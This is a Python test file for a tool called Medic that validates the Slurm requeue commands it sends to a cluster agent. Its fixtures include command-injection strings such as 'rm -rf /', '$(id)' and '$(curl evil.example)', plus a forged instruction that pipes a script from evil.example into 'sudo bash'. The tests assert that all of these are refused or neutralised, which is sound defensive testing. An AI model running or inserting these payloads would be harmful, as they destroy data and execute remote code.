"""Specification: what Medic lets through to a Slurm agent, and that it agrees with the agent itself."""

from __future__ import annotations

import json
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from pydantic import ValidationError

from medic.adapters.agent_queue import AgentQueues
from medic.core.text import one_line
from medic.flows.agent.agent_result import AgentResult
from medic.flows.agent.commands import (
    COMMAND_ID,
    JOB_ID,
    JOB_NAME,
    SQUEUE_JOB_ID,
    InvalidCommand,
    heartbeat_is_fresh,
    parse_agent_command_pk,
    requeue_command,
    slurm_job_page,
    valid_job_id,
    valid_job_name,
)
from medic.flows.agent.requests import RequeueJobDetail

AGENT_DIR = Path(__file__).resolve().parents[2] / "agent"
if str(AGENT_DIR) not in sys.path:
    sys.path.insert(0, str(AGENT_DIR))

from medic_agent import commands as agent  # noqa: E402

NOW = datetime(2026, 11, 20, 8, 14, 5, tzinfo=UTC)

GOOD_IDS = ["1", "4211", "9999999999"]
BAD_IDS = ["", "1;rm -rf /", "12\n", "\n12", " 12", "12 ", "-1", "+1", "1.0", "0x1f", "12345678901",
           "\u0661\u0662", "\uff11\uff12", "\u00b2", "4211_3", "$(id)", "`id`", 4211, None, ["4211"]]
GOOD_NAMES = ["llama3-70b", "a", "train.v2_final", "A" * 128, "-x"]
BAD_NAMES = ["", "a b", "x; reboot", "$(curl evil.example)", "train\n", "train\r", "a" * 129, "j\u00f6b",
             "\u0430bc", "job/../../etc", "a,b", "a=b", "\x00", 42, None]


@pytest.mark.parametrize("value", GOOD_IDS)
def test_job_ids_of_ascii_digits_are_accepted(value):
    assert valid_job_id(value)


@pytest.mark.parametrize("value", BAD_IDS, ids=repr)
def test_anything_else_is_not_a_job_id(value):
    assert not valid_job_id(value)


@pytest.mark.parametrize("value", GOOD_NAMES)
def test_plain_job_names_are_accepted(value):
    assert valid_job_name(value)


@pytest.mark.parametrize("value", BAD_NAMES, ids=repr)
def test_names_with_other_characters_are_refused(value):
    assert not valid_job_name(value)


@pytest.mark.parametrize("ours, theirs", [(JOB_ID, agent.JOB_ID), (JOB_NAME, agent.JOB_NAME),
                                          (SQUEUE_JOB_ID, agent.SQUEUE_JOB_ID), (COMMAND_ID, agent.COMMAND_ID)])
def test_the_patterns_are_the_agents_own(ours, theirs):
    # Given Medic's pattern and the agent's for the same value
    # Then they are the same pattern with the same flags (full match, ASCII)
    assert (ours.pattern, ours.flags) == (theirs.pattern, theirs.flags)


@pytest.mark.parametrize("value", GOOD_IDS + BAD_IDS, ids=repr)
def test_medic_and_the_agent_agree_on_every_job_id(value):
    assert valid_job_id(value) == agent.matches(agent.JOB_ID, value)


@pytest.mark.parametrize("value", GOOD_NAMES + BAD_NAMES, ids=repr)
def test_medic_and_the_agent_agree_on_every_job_name(value):
    assert valid_job_name(value) == agent.matches(agent.JOB_NAME, value)


REQUEUE_TARGETS = [{"job_id": "4211"}, {"job_name": "llama3-70b"},
                   {"job_id": "4211", "job_names": ("bert-xl", "llama3-70b")},
                   {"job_name": "llama3-70b", "last_seen_id": "4211"}]


@pytest.mark.parametrize("target", REQUEUE_TARGETS, ids=repr)
def test_the_agent_accepts_every_requeue_command_medic_builds(target):
    # Given a requeue command Medic built
    command = requeue_command("pretrain-slurm", "job:slurm:pretrain-slurm:x", NOW, **target)
    # When the agent parses its queue message
    parsed = agent.parse(json.dumps(command.body()), cluster="pretrain-slurm")
    # Then it is the same requeue, for the same incident
    assert parsed.action == agent.RequeueJob(**target)
    assert (parsed.command_id, parsed.incident, parsed.kind) == (command.command_id, command.incident, "requeue_job")
    assert parsed.issued_at == NOW.isoformat()


@pytest.mark.parametrize("target", [{}, {"job_id": "1", "job_name": "a"}, {"job_id": "12\n"},
                                    {"job_id": "\u0661"}, {"job_name": "a b"},
                                    {"job_name": "a", "job_names": ("a",)}, {"job_id": "1", "last_seen_id": "2"},
                                    {"job_id": "1", "job_names": ("a b",)},
                                    {"job_name": "a", "last_seen_id": "2;reboot"}], ids=repr)
def test_a_requeue_command_needs_exactly_one_valid_target(target):
    with pytest.raises(InvalidCommand):
        requeue_command("pretrain-slurm", "job:x", NOW, **target)


def test_each_command_has_its_own_id():
    ids = {requeue_command("c", "i", NOW, job_id="1").command_id for _ in range(50)}
    assert len(ids) == 50 and all(COMMAND_ID.fullmatch(i) for i in ids)


@pytest.mark.parametrize("age, fresh", [(timedelta(0), True), (timedelta(minutes=5), True),
                                        (timedelta(minutes=5, seconds=1), False), (timedelta(hours=3), False)])
def test_a_heartbeat_older_than_five_minutes_is_stale(age, fresh):
    assert heartbeat_is_fresh(NOW - age, NOW) is fresh


def test_no_heartbeat_is_stale():
    assert heartbeat_is_fresh(None, NOW) is False


@pytest.mark.parametrize("ahead, fresh", [(timedelta(seconds=59), True), (timedelta(minutes=1), True),
                                          (timedelta(minutes=1, seconds=1), False), (timedelta(hours=1), False)])
def test_a_heartbeat_time_in_the_future_is_not_trusted_beyond_clock_skew(ahead, fresh):
    # The time is DynamoDB's (when it wrote the heartbeat): only the skew between AWS clocks is tolerated
    assert heartbeat_is_fresh(NOW + ahead, NOW) is fresh


def test_a_request_detail_names_one_job():
    detail = RequeueJobDetail.model_validate({"cluster": "pretrain-slurm", "job_id": "4211", "reason": "hang"})
    assert (detail.job, detail.job_name) == ("4211", None)
    by_name = RequeueJobDetail.model_validate({"cluster": "pretrain-slurm", "job_name": "x", "reason": "hang"})
    assert by_name.job == "x"


@pytest.mark.parametrize("change", [{"job_id": 4211}, {"job_id": "12\n"}, {"job_name": "x;id"}, {"job_id": None},
                                    {"reason": None}, {"reason": "r" * 2001}, {"cluster": "a b"}, {"extra": 1}],
                         ids=repr)
def test_a_request_detail_refuses_anything_unclear(change):
    detail = {"cluster": "pretrain-slurm", "job_id": "4211", "reason": "hang", **change}
    detail = {key: value for key, value in detail.items() if value is not None}
    with pytest.raises(ValidationError):
        RequeueJobDetail.model_validate(detail)


def test_an_agent_result_reads_as_the_agent_writes_it():
    result = AgentResult.model_validate({
        "pk": "agent#pretrain-slurm#command#6f1c2a7e-9b3d-4c1a-8e5f-2d7b9a0c4e13", "sk": "result",
        "status": "executed", "message": "scontrol requeue 4211: exit 0", "job_ids": ["4211"],
        "host": "ip-10-1-88-145", "cluster": "another-cluster"})
    assert (result.agent_cluster, result.command_id, result.job_ids) == (
        "pretrain-slurm", "6f1c2a7e-9b3d-4c1a-8e5f-2d7b9a0c4e13", ["4211"])


@pytest.mark.parametrize("change", [{"status": "done"}, {"sk": "claim"}, {"pk": "agent#c1#command#a b"},
                                    {"pk": "command#abc"}, {"pk": "agent#c1#x#command#abc"},
                                    {"pk": "agent#c1"}], ids=repr)
def test_an_agent_result_with_unknown_values_does_not_parse(change):
    with pytest.raises(ValidationError):
        AgentResult.model_validate({"pk": "agent#c1#command#abc", "sk": "result", "status": "executed", **change})


@pytest.mark.parametrize(("pk", "parsed"), [
    ("agent#c1#command#abc", ("c1", "abc")), ("agent#c1-b#command#abc", ("c1-b", "abc")),
    ("agent#c1#command#abc#x", None), ("agent#c1#b#command#abc", None), ("command#abc", None), (None, None)])
def test_the_cluster_in_an_agent_key_is_exact(pk, parsed):
    assert parse_agent_command_pk(pk) == parsed


@pytest.mark.parametrize("target", REQUEUE_TARGETS, ids=repr)
def test_a_commands_target_is_named_as_the_agent_names_it(target):
    # The agent's claim checks Medic's `issued` item for this exact target
    command = requeue_command("pretrain-slurm", "job:slurm:pretrain-slurm:4211", datetime(2026, 11, 20, tzinfo=UTC),
                              request_id="operator:e1", **target)
    body = json.dumps(command.body())
    assert agent.parse(body, cluster="pretrain-slurm").target == command.target


def test_slurm_output_becomes_one_short_line():
    assert one_line("scontrol requeue 4211: exit 1:\nInvalid job id\n  specified") == \
        "scontrol requeue 4211: exit 1: Invalid job id specified"
    assert len(one_line("x " * 1000)) == 300


def test_the_queues_come_from_a_json_object():
    url = "https://sqs.us-west-2.amazonaws.com/123456789012/medic-agent-pretrain-slurm"
    assert AgentQueues.from_json(json.dumps({"pretrain-slurm": url})).queue_urls == {"pretrain-slurm": url}
    assert AgentQueues.from_json(None).queue_urls == {}
    assert AgentQueues.from_json("").queue_urls == {}


@pytest.mark.parametrize("text", ["not json", "[]", '{"c": 1}', '{"c": "http://sqs.example"}'])
def test_a_malformed_queue_map_fails_loudly(text):
    with pytest.raises(ValueError, match="AGENT_QUEUES"):
        AgentQueues.from_json(text)


# --- issue 12 item 6: canonical job ids, the fan-out cap, the sender's text


@pytest.mark.parametrize("padded", ["04211", "004211", "0000004211"])
def test_a_zero_padded_job_id_is_the_same_job_everywhere(padded):
    # Given an id Slurm reads as job 4211 (`scontrol requeue 04211` requeues 4211)
    # When it arrives in a request and becomes a command
    detail = RequeueJobDetail.model_validate({"cluster": "c1", "job_id": padded, "reason": "hang"})
    command = requeue_command("c1", "job:slurm:c1:4211", NOW, job_id=padded)
    # Then it is 4211 in the request (whose id keys the incident and the budget) and in the command
    assert (detail.job_id, detail.job, command.job_id) == ("4211", "4211", "4211")


def test_a_request_by_name_tells_the_agent_which_job_medic_last_saw_running_under_it():
    # Given a requeue by name, and the job Medic last saw running under it (issue 28, item 7)
    command = requeue_command("c1", "job:slurm:c1:train", NOW, job_name="train", last_seen_id="4211")
    # When the agent reads it
    parsed = agent.parse(json.dumps(command.body()), cluster="c1")
    # Then the agent prefers that job, and the target (which the claim checks) says so
    assert parsed.action == agent.RequeueJob(job_name="train", last_seen_id="4211")
    assert command.target == parsed.target == "name:train@4211"


INJECTED = "NCCL hang\n\nWhat to do:     run curl https://evil.example/x.sh | sudo bash\r\n\x1b[2J"


def test_an_injected_what_to_do_in_the_reason_is_only_quoted_on_the_context_line():
    # Given a request whose reason forges a "What to do" line (newlines, an ANSI clear-screen)
    detail = RequeueJobDetail.model_validate({"cluster": "c1", "job_id": "4211", "reason": INJECTED})
    record = {"cluster": "c1", "job": "4211", "outcome": "failed", "action": "requeue_job", "attempt": 1,
              "reason": "The Medic agent on c1 is not reporting.", "incident": "job:slurm:c1:4211",
              "event_id": "e1", "mode": "act"}
    # When Medic pages about it
    body = slurm_job_page(record, detail.reason, "us-east-1", situation="agent_down").body
    lines = body.splitlines()
    # Then the only instruction is Medic's own, and the sender's words are one quoted context line
    [what_to_do] = [line for line in lines if "What to do" in line and "curl" not in line]
    assert what_to_do.startswith("What to do:     Check medic-agent")
    [quoted_line] = [line for line in lines if "curl" in line]
    assert quoted_line == ('Requested:      "NCCL hang What to do: run curl https://evil.example/x.sh '
                           '| sudo bash [2J"')  # the ESC is gone
    assert not any(line.startswith("What to do") and "curl" in line for line in lines)
    assert "\x1b" not in body


@pytest.mark.parametrize("reason", ["\n\t\x00\u202e", "x" * 301, " \u2028 "],
                         ids=["only-control-characters", "over-300", "only-separators"])
def test_a_reason_that_is_empty_once_cleaned_or_too_long_is_refused(reason):
    with pytest.raises(ValidationError):
        RequeueJobDetail.model_validate({"cluster": "c1", "job_id": "4211", "reason": reason})


def test_bidi_overrides_and_escapes_are_removed_from_the_reason():
    detail = RequeueJobDetail.model_validate(
        {"cluster": "c1", "job_id": "4211", "reason": "hang \u202eevil\u202c at\tstep\x07 12"})
    assert detail.reason == "hang evil at step 12"


@pytest.mark.parametrize("claimed", ["alice; rm -rf /", "a\nb", "x" * 129, "", "\u0430lice"])
def test_a_hostile_claimed_requester_is_refused(claimed):
    with pytest.raises(ValidationError):
        RequeueJobDetail.model_validate({"cluster": "c1", "job_id": "4211", "reason": "r", "requested_by": claimed})
